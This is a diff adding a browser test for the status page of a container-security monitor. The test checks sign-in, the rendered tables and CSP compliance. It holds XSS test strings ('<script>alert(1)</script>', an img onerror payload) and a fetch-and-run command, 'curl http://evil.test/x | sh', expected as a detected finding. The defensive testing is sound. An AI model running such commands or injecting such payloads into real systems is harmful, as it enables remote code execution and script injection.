@@ -1,0 +1,192 @@
+"""The status page in headless Chromium, against a real collector and
+PostgreSQL holding known data (sent through the real ingest path): sign in
+with a token, check the agents, events, findings and containers rendered,
+that attacker-controlled strings (a container named <script>alert(1)</script>
+and labelled <img src=x onerror=alert(1)>) show as text and run nothing, that
+the page needs no CSP exception, and save a screenshot."""
+
+import os
+import shutil
+import tempfile
+import time
+
+import pytest
+
+import apitest as at
+import vigiltest as vt
+
+try:
+    from selenium import webdriver
+    from selenium.common.exceptions import (NoAlertPresentException,
+                                            StaleElementReferenceException)
+    from selenium.webdriver.chrome.service import Service
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.support.ui import WebDriverWait
+except ImportError:  # reported by the browser fixture: a failure, not a skip
+    webdriver = None
+
+F = at.Fleet
+CHROMIUM = "/usr/bin/chromium"
+CHROMEDRIVER = "/usr/bin/chromedriver"
+
+
+@pytest.fixture(scope="module")
+def env(module_collector_factory, module_db, pki, collector_bin):
+    hport = vt.free_port()
+    coll = module_collector_factory(module_db, flags={"--http-listen": "127.0.0.1:%d" % hport})
+    keep = F().load(coll.port, pki)
+    tok = at.create_token(collector_bin, module_db, "browser", "viewer")
+    yield {"url": "https://localhost:%d/" % hport, "token": tok, "coll": coll}
+    keep.close()
+
+
+@pytest.fixture(scope="module")
+def browser(workdir):
+    if webdriver is None or not (os.access(CHROMIUM, os.X_OK) and
+                                 os.access(CHROMEDRIVER, os.X_OK)):
+        pytest.fail("chromium, chromium-driver and python3-selenium must be installed "
+                    "(scripts/deps.sh)")
+    profile = tempfile.mkdtemp(prefix="vigil-chromium-", dir=workdir)
+    o = webdriver.ChromeOptions()
+    o.binary_location = CHROMIUM
+    for a in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic",
+              "--no-first-run", "--disable-background-networking",
+              "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
+              "--window-size=1400,1800", "--user-data-dir=" + profile):
+        o.add_argument(a)
+    # The test CA is not in Chromium's store; TLS itself is tested in test_api.py.
+    o.set_capability("acceptInsecureCerts", True)
+    o.set_capability("goog:loggingPrefs", {"browser": "ALL"})
+    d = webdriver.Chrome(service=Service(CHROMEDRIVER), options=o)
+    d.set_page_load_timeout(30)
+    yield d
+    d.quit()
+    shutil.rmtree(profile, ignore_errors=True)
+
+
+def wait(d, seconds):
+    return WebDriverWait(d, seconds, ignored_exceptions=[StaleElementReferenceException])
+
+
+def no_alert(d):
+    try:
+        a = d.switch_to.alert
+        text = a.text
+        a.dismiss()
+        raise AssertionError("an alert ran: %r" % text)
+    except NoAlertPresentException:
+        pass
+
+
+def click_container(d, name):
+    """Click the container row named NAME (the table is redrawn every 10 s,
+    so a row found a moment ago may be gone: look again)."""
+    for _ in range(20):
+        try:
+            for tr in d.find_elements(By.CSS_SELECTOR, "#containers tbody tr"):
+                if tr.find_elements(By.TAG_NAME, "td")[0].text == name:
+                    tr.click()
+                    return
+        except StaleElementReferenceException:
+            pass
+        time.sleep(0.2)
+    raise AssertionError("no container row %r" % name)
+
+
+def table_texts(d, table_id):
+    for _ in range(20):
+        try:
+            return [[td.text for td in tr.find_elements(By.TAG_NAME, "td")]
+                    for tr in d.find_elements(By.CSS_SELECTOR, "#%s tbody tr" % table_id)]
+        except StaleElementReferenceException:
+            time.sleep(0.1)  # redrawn by the page's refresh: read again
+    raise AssertionError("table %s keeps changing" % table_id)
+
+
+def test_status_page(env, browser, workdir):
+    d = browser
+    t0 = time.monotonic()
+    d.get(env["url"])
+    form = d.find_element(By.ID, "signin-form")
+    assert form.is_displayed()
+    assert not d.find_element(By.ID, "dash").is_displayed()
+
+    # a wrong token is refused
+    d.find_element(By.ID, "token").send_keys("vgl_" + "0" * 64)
+    form.submit()
+    wait(d, 15).until(
+        lambda x: "not accepted" in x.find_element(By.ID, "signin-error").text)
+
+    d.find_element(By.ID, "token").send_keys(env["token"])
+    d.find_element(By.ID, "signin-form").submit()
+    wait(d, 30).until(
+        lambda x: x.execute_script("return document.body.dataset.loaded") == "1")
+    load_s = time.monotonic() - t0
+    assert d.find_element(By.ID, "who").text == "token:browser (viewer)"
+
+    agents = {r[0]: r for r in table_texts(d, "agents")}
+    assert set(agents) == {F.NODE1, F.NODE2}
+    assert agents[F.NODE1][2] == "online" and agents[F.NODE1][4] == "itest/1"
+    assert d.find_element(By.ID, "t-online").text in ("1", "2")
+
+    high = table_texts(d, "high")
+    assert any("curl http://evil.test/x | sh" in r[4] for r in high), high
+    assert any(r[2] == "critical" and r[3] == "finding" for r in high), high
+    findings = table_texts(d, "findings")
+    assert findings and findings[0][3] == "shell-in-container"
+    assert findings[0][4] == "a shell ran in web-1"
+
+    rows = table_texts(d, "containers")
+    names = [r[0] for r in rows]
+    assert at.XSS_NAME in names and "web-1" in names and at.FORMULA_NAME in names
+    xss_row = rows[names.index(at.XSS_NAME)]
+    assert "note=" + at.XSS_LABEL in xss_row[5]
+
+    # the XSS strings are text: no element was made of them, nothing ran
+    no_alert(d)
+    assert d.execute_script("return document.querySelectorAll('img').length") == 0
+    scripts = d.execute_script(
+        "return Array.from(document.scripts).map(s => s.getAttribute('src'))")
+    assert sorted(scripts) == ["/app.js", "/vendor/uplot/uPlot.iife.min.js"]
+    assert d.execute_script("return document.querySelectorAll('[onerror]').length") == 0
+
+    # one container's timeline
+    click_container(d, "web-1")
+    wait(d, 15).until(
+        lambda x: len(x.find_elements(By.CSS_SELECTOR, "#timeline li")) >= 8)
+    assert d.find_element(By.ID, "timeline-id").text == F.C1
+    tl = d.find_element(By.ID, "timeline").text
+    assert "curl http://evil.test/x | sh" in tl and "/bin/sh -c step 0" in tl
+    click_container(d, at.XSS_NAME)
+    wait(d, 15).until(
+        lambda x: x.find_element(By.ID, "timeline-name").text == at.XSS_NAME)
+    no_alert(d)
+
+    # search
+    box = d.find_element(By.ID, "search")
+    box.send_keys("web-")
+    d.find_element(By.ID, "search-form").submit()
+    wait(d, 15).until(
+        lambda x: sorted(r[0] for r in table_texts(x, "containers")) == ["web-1", "web-2"])
+
+    # the chart is drawn by the vendored uPlot (canvas), no CSP violation anywhere
+    assert d.execute_script("return typeof uPlot") == "function"
+    assert d.find_elements(By.CSS_SELECTOR, "#chart canvas")
+    logs = d.get_log("browser")
+    csp = [e for e in logs if "Content Security Policy" in e.get("message", "")]
+    assert not csp, csp
+    severe = [e for e in logs if e.get("level") == "SEVERE" and "favicon" not in e["message"]
+              and "401" not in e["message"]]
+    assert not severe, severe
+
+    shots = os.environ.get("VIGIL_SCREENSHOT_DIR") or workdir
+    os.makedirs(shots, exist_ok=True)
+    path = os.path.join(shots, "status-page.png")
+    assert d.save_screenshot(path)
+    assert os.path.getsize(path) > 10000
+    print("\nstatus page loaded and signed in in %.2f s; screenshot %s" % (load_s, path))
+
+    # sign out forgets the token
+    d.find_element(By.ID, "signout").click()
+    assert d.find_element(By.ID, "signin").is_displayed()
+    assert d.execute_script("return sessionStorage.getItem('vigil.token')") is None
